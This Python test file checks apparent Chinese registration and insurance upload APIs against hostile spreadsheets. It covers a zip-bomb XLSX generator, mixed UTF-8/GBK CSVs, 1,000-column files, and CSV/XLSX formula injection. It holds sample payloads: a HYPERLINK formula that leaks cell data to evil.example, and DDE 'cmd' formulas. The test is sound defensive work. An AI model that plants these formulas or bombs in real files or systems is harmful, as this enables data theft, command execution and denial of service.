"""Hostile spreadsheets against every upload route (``UPLOADS``), each API a real process on a real database: a zip
bomb XLSX, a file whose lines mix UTF-8 and GBK, 1,000 columns; and formula cells, which must come back from every
export as text, never as a formula (CSV/XLSX injection).

Each refusal is a 4xx problem naming the field ``file`` and the reason, and writes nothing.
"""

from __future__ import annotations

import csv
import functools
import io
import random
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import date

import httpx
import pytest
from openpyxl import Workbook, load_workbook

from bench.data import person_body
from contracts.regions import Region, RegionLevel
from services.platform import service
from services.reporting import sources
from services.reporting.api import request_window
from services.reporting.exports import QuarterlyReport, Row, to_csv, to_xlsx
from services.reporting.periods import parse_period
from services.runtime.spreadsheets import MAX_COLUMNS, decode_csv
from tests.abuse.conftest import RunningApi, bearer, start_api, stop_api

pytestmark = pytest.mark.integration

VILLAGE = "430527100201"
MB = 1024 * 1024
#: How much an API's peak RSS may grow while it refuses a zip bomb that unpacks to ``BOMB_UNPACKED``.
RSS_GROWTH_BOUND_MB = 48
BOMB_UNPACKED = 512 * MB


@dataclass(frozen=True)
class Upload:
    """A route that reads a clerk's spreadsheet: its service, path, other form fields and its header row."""

    service: str
    path: str
    header: list[str]
    #: A data row in the header's order, with ``{text}`` where a Chinese text cell goes.
    row: list[str]
    form: dict[str, str] = field(default_factory=dict)


UPLOADS = [
    Upload("registration", "/imports/persons", ["身份证号", "姓名", "所在村(社区)代码"], ["{id}", "{text}", VILLAGE]),
    Upload(
        "insurance",
        "/contributions/files",
        ["人员编号", "险种", "缴费基数", "单位缴纳", "个人缴纳"],
        ["00000000-0000-7000-8000-000000000000", "{text}", "5000", "0", "1200.50"],
        {"month": f"{date.today().year - 1}-11"},
    ),
]


@pytest.fixture(scope="module", params=UPLOADS, ids=[u.service for u in UPLOADS])
def target(request: pytest.FixtureRequest, infra: object, abuse_logs) -> Iterator[tuple[Upload, RunningApi]]:
    upload: Upload = request.param
    running = start_api(infra, service(upload.service), abuse_logs)
    try:
        yield upload, running
    finally:
        stop_api(running)


def post(api: RunningApi, upload: Upload, content: bytes, name: str) -> httpx.Response:
    with api.client() as http:
        return http.post(upload.path, files={"file": (name, content)}, data=upload.form, headers=bearer())


def assert_refused(response: httpx.Response, status: int, words: str) -> None:
    assert response.status_code == status, response.text[:500]
    assert response.headers["content-type"].startswith("application/problem+json")
    problem = response.json()
    assert problem["field"] == "file", problem
    assert words in problem["detail"], problem


def lines(upload: Upload, texts: list[str]) -> list[list[str]]:
    """The header and one row per text (registration's rows get distinct, valid ID numbers)."""
    rng = random.Random(3)
    rows = [upload.header]
    for index, text in enumerate(texts):
        citizen = str(person_body(7_000_000 + index, rng)["id_number"])
        rows.append([cell.replace("{text}", text).replace("{id}", citizen) for cell in upload.row])
    return rows


def as_csv(rows: list[list[str]]) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue()


@functools.cache
def zip_bomb() -> bytes:
    """A real workbook whose sheet unpacks to ``BOMB_UNPACKED`` of rows from well under 1 MB."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(UPLOADS[0].header)
    plain = io.BytesIO()
    book.save(plain)
    bomb = io.BytesIO()
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as out:
        for member in source.infolist():
            if member.filename != "xl/worksheets/sheet1.xml":
                out.writestr(member, source.read(member))
                continue
            xml = source.read(member).decode()
            head, _, tail = xml.partition("</sheetData>")
            row = f'<row><c t="inlineStr"><is><t>{VILLAGE}</t></is></c></row>'.encode()
            chunk = row * (MB // len(row))
            with out.open(member.filename, "w", force_zip64=True) as sheet_xml:
                sheet_xml.write(head.encode())
                for _ in range(BOMB_UNPACKED // len(chunk)):
                    sheet_xml.write(chunk)
                sheet_xml.write(b"</sheetData>" + tail.encode())
    return bomb.getvalue()


def test_a_zip_bomb_xlsx_is_413_with_bounded_memory_and_writes_nothing(target: tuple[Upload, RunningApi]) -> None:
    upload, api = target
    bomb = zip_bomb()
    assert len(bomb) < 2 * MB
    before, peak_before = api.events(), api.rss_kib("VmHWM")
    assert_refused(post(api, upload, bomb, "台账.xlsx"), 413, "unpacks to")
    growth_mb = (api.rss_kib("VmHWM") - peak_before) / 1024
    assert growth_mb < RSS_GROWTH_BOUND_MB, f"peak RSS grew by {growth_mb:.0f} MB"
    assert api.events() == before


def test_a_csv_mixing_utf8_and_gbk_lines_is_422_and_writes_nothing(target: tuple[Upload, RunningApi]) -> None:
    upload, api = target
    text = {"registration": "杨秀成", "insurance": "企业职工基本养老保险"}[upload.service]
    first, second = lines(upload, [text, text])[1:]
    header = as_csv([upload.header]).encode("utf-8")
    mixed = header + as_csv([first]).encode("utf-8") + as_csv([second]).encode("gbk")
    before = api.events()
    assert_refused(post(api, upload, mixed, "mixed.csv"), 422, "2 are UTF-8 but lines 3 are not")
    assert api.events() == before


def test_a_gbk_csv_is_read_as_chinese_not_mojibake() -> None:
    """Not over HTTP: the decision is the decoder's, and a registered name needs the whole ledger behind it
    (``tests/integration/test_registration_import.py`` imports a GBK file end to end)."""
    text = as_csv(lines(UPLOADS[0], ["杨秀成", "欧阳娜娜"]))
    assert decode_csv(text.encode("gbk")) == text
    assert decode_csv(("\ufeff" + text).encode("utf-8")) == text


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_thousand_columns_are_422_and_write_nothing(target: tuple[Upload, RunningApi], kind: str) -> None:
    upload, api = target
    rows = lines(upload, ["杨秀成"] * 3)
    wide = [row + [f"extra-{i}" for i in range(1_000 - len(row))] for row in rows]
    if kind == "csv":
        content = as_csv(wide).encode()
    else:
        book = Workbook()
        sheet = book.active
        assert sheet is not None
        for row in wide:
            sheet.append(row)
        out = io.BytesIO()
        book.save(out)
        content = out.getvalue()
    before = api.events()
    assert_refused(post(api, upload, content, f"wide.{kind}"), 422, f"at most {MAX_COLUMNS}")
    assert api.events() == before


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
]


@pytest.fixture(scope="module")
def registration(infra: object, abuse_logs) -> Iterator[RunningApi]:
    running = start_api(infra, service("registration"), abuse_logs)
    try:
        yield running
    finally:
        stop_api(running)


def test_formula_cells_are_kept_as_text_and_exported_as_text(registration: RunningApi) -> None:
    """A good row whose name is a formula is registered with that very text (nothing evaluated it); bad rows with
    formulas in their cells come back in the errors workbook as string cells, never as formulas."""
    upload = UPLOADS[0]
    good = lines(upload, [FORMULAS[0]])[1]
    bad = [["110105194912310021", formula, VILLAGE] for formula in FORMULAS]  # wrong check character
    bad[1][2] = "=1+1"  # a formula where the village code goes
    content = as_csv([upload.header, good, *bad]).encode()
    with registration.client() as http:
        reply = http.post(upload.path, files={"file": ("台账.csv", content)}, headers=bearer())
        assert reply.status_code == 200, reply.text
        result = reply.json()
        assert result["created"] == 1 and result["rejected"] == len(bad), result
        found = http.get("/persons", params={"name": FORMULAS[0]}, headers=bearer())
        assert found.status_code == 200, found.text
        assert [p["name"] for p in found.json()["persons"]] == [FORMULAS[0]]
        workbook = http.get(result["errors_url"], headers=bearer())
    assert workbook.status_code == 200, workbook.text
    with zipfile.ZipFile(io.BytesIO(workbook.content)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets), "the errors workbook holds a formula"
    sheet = load_workbook(io.BytesIO(workbook.content)).active
    assert sheet is not None
    cells = {c.value: c.data_type for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    for formula in [*FORMULAS, "=1+1"]:
        assert cells.get(formula) == "s", (formula, cells.get(formula))


def test_the_quarterly_report_writes_formula_like_region_names_as_text() -> None:
    """A division list is imported from a file too (``REGIONS_CSV``): a region named like a formula must reach the
    report's CSV behind an apostrophe and its XLSX as a string cell. Not over HTTP: the writers decide."""
    county = Region(code="430527000000", name="绥宁县", level=RegionLevel.COUNTY, parent="430500000000")
    metrics = sources.CATALOGUE.metrics
    figures: dict[str, int | float | None] = {m.name: 1 for m in metrics}
    rows = [Row("430527100000", formula, figures) for formula in FORMULAS]
    report = QuarterlyReport(
        county,
        parse_period("2026Q3"),
        request_window("2026Q3", None),
        metrics,
        rows,
        Row(county.code, "合计", figures),
    )
    names = [row[1] for row in csv.reader(io.StringIO(to_csv(report).decode("utf-8-sig"))) if len(row) > 1]
    assert all("'" + formula in names for formula in FORMULAS), names
    sheet = load_workbook(io.BytesIO(to_xlsx(report))).active
    assert sheet is not None
    cells = {c.value: c.data_type for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    assert all(cells.get(formula) == "s" for formula in FORMULAS), {f: cells.get(f) for f in FORMULAS}
